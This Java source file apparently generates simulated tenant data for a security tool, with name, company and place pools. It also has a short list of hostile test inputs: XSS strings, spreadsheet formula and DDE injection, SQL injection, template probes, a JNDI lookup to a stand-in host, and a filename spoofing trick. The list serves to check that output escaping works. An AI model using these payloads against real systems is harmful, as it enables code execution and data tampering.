package io.cspguard.sim.generate;

import java.util.List;
import java.util.Locale;

/** Name pools, places, and the hostile payloads of {@link GeneratorOptions#hostile()}. */
final class Names {
    private Names() {
    }

    static final String[] FIRST = {"Alex", "Maria", "Ethan", "Lucas", "Priya", "James", "Olivia", "Noah", "Grace",
            "Sam", "Megan", "Diego", "Isaiah", "Lynne", "Pradeep", "Andrew", "Steven", "Margaret", "Nancy", "Janet",
            "Laura", "Robert", "Anne", "Michael", "Kim", "Tom", "Dan", "Lee", "Kevin", "Ben", "Amy", "Chloe", "Hiro",
            "Yuki", "Fatima", "Omar", "Ingrid", "Lars", "Sofia", "Mateo", "Aisha", "Kwame", "Mei", "Wei", "Ravi",
            "Anika", "Jonas", "Elena", "Pablo", "Zoe", "Liam", "Emma", "Noor", "Tariq", "Hannah", "Felix", "Clara",
            "Oscar", "Ava", "Leo", "Isla", "Nora", "Hugo", "Jade", "Ivan", "Olga", "Pieter", "Sanne", "Bram", "Femke",
            "Carlos", "Lucia", "Marco", "Giulia", "Aaron", "Ruth", "Tobias", "Maja", "Emil", "Freya"};

    static final String[] LAST = {"Morgan", "Garcia", "Hughes", "Reed", "Nair", "Wilson", "Brown", "Clark", "Lee",
            "Patel", "Bowen", "Soto", "Turner", "Zelenka", "Gupta", "Fuller", "Buchanan", "Peacock", "Davolio",
            "Leverling", "Callahan", "King", "Dodsworth", "Suyama", "Akers", "Baker", "Chen", "Dubois", "Eriksen",
            "Fischer", "Haddad", "Ito", "Jansen", "Kowalski", "Larsen", "Mensah", "Novak", "Okafor", "Petrov",
            "Quinn", "Rossi", "Schmidt", "Tanaka", "Umar", "Varga", "Weber", "Xu", "Yilmaz", "Zhang", "Silva",
            "Costa", "Nguyen", "Kim", "Park", "Singh", "Khan", "Ali", "Lopez", "Martin", "Bernard", "Moreau",
            "Visser", "Smit", "Bakker", "Meyer", "Wagner", "Becker", "Hoffmann", "Russo", "Ricci", "Moretti",
            "Ortiz", "Ramos", "Reyes", "Cruz", "Flores", "Nilsson", "Berg", "Lund", "Holm"};

    static final String[] COMPANY_A = {"Contoso", "Fabrikam", "Northwind", "Tailspin", "Woodgrove", "Litware",
            "Adatum", "Proseware", "Fourth Coffee", "Alpine Ski", "Blue Yonder", "Coho", "Lamna", "Margie's",
            "Trey", "Wingtip", "Wide World", "Lucerne", "Humongous", "Relecloud", "Bellows", "Consolidated",
            "Southridge", "Tasmanian", "VanArsdel", "Datum", "Graphic Ink", "Munson's", "Nod", "Phone Company",
            "City Power", "Best For You", "Contososuites", "Boulder", "Cedar", "Harbor", "Granite", "Meadow",
            "Summit", "Riverbend"};

    static final String[] COMPANY_B = {"Dental", "Logistics", "Legal", "Bakery", "Engineering", "Architects",
            "Foods", "Travel", "Accounting", "Clinic", "Motors", "Media", "Outfitters", "Consulting", "Realty",
            "Pharmacy", "Builders", "Insurance", "Labs", "Studios", "Vineyards", "Hotels", "Fitness", "Robotics",
            "Energy", "Transport", "Farms", "Optics", "Printing", "Security"};

    static final String[] TLD = {"com", "com", "com", "co.uk", "de", "nl", "fr", "com.au", "ca", "io", "net", "ie"};

    static final String[] DEPARTMENTS = {"Finance", "Sales", "Operations", "Marketing", "HR", "Engineering",
            "Support", "Warehouse", "Legal", "Management"};

    /** Guests' home domains (never the partner's). */
    static final String[] GUEST_DOMAINS = {"gmail.com", "outlook.com", "hotmail.com", "contractor-collective.com",
            "lawfirm-llp.co.uk", "auditors-group.com", "freelance.dev", "agency-creative.io"};

    record Place(String city, String state, String country, double latitude, double longitude, String ipPrefix) {
    }

    static final List<Place> PLACES = List.of(
            new Place("Seattle", "Washington", "US", 47.61, -122.33, "203.0.113."),
            new Place("Redmond", "Washington", "US", 47.67, -122.12, "198.51.100."),
            new Place("New York", "New York", "US", 40.71, -74.01, "192.0.2."),
            new Place("Chicago", "Illinois", "US", 41.88, -87.63, "20.55.14."),
            new Place("London", "England", "GB", 51.51, -0.13, "51.140.22."),
            new Place("Manchester", "England", "GB", 53.48, -2.24, "51.141.8."),
            new Place("Amsterdam", "Noord-Holland", "NL", 52.37, 4.90, "20.50.61."),
            new Place("Berlin", "Berlin", "DE", 52.52, 13.40, "20.52.88."),
            new Place("Paris", "Ile-de-France", "FR", 48.86, 2.35, "20.74.5."),
            new Place("Sydney", "New South Wales", "AU", -33.87, 151.21, "20.53.40."),
            new Place("Toronto", "Ontario", "CA", 43.65, -79.38, "20.151.9."),
            new Place("Dublin", "Leinster", "IE", 53.35, -6.26, "20.54.77."));

    /** Payloads that a report, a dashboard or a spreadsheet must show as text, never run. */
    static final String[] HOSTILE = {
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3+cmd|' /C calc'!A0",
            "<svg/onload=alert('x')>",
            "javascript:alert(document.cookie)",
            "'; DROP TABLE tenants;--",
            "{{7*7}}${7*7}",
            "${jndi:ldap://evil.example/x}",
            "| [x](javascript:alert(1)) |",
            "line one\nline two\r\n=1+1",
            "\u202Egnp.exe\u202C tab\there",
            "Ω≈ç√ 中文 😀 \\\\server\\share",
    };

    /** Local parts that Entra accepts in a UPN (letters, digits and ' . - _ ! # ^ ~) but that look like formulas. */
    static final String[] HOSTILE_UPN = {"-2-3-cmd'!a0", "'x'!#^~", "-1'or'1", "_-'-_", "~!#^'sum'", "-cmd'-c'-calc"};

    /** A lower-case DNS label from a company name. */
    static String slug(String name) {
        String s = name.toLowerCase(Locale.ROOT).replaceAll("[^a-z0-9]+", "");
        return s.isEmpty() ? "tenant" : s;
    }

    /** A UPN local part from a name: lower case, letters and digits, joined by a dot. */
    static String local(String first, String last) {
        return slug(first) + "." + slug(last);
    }
}
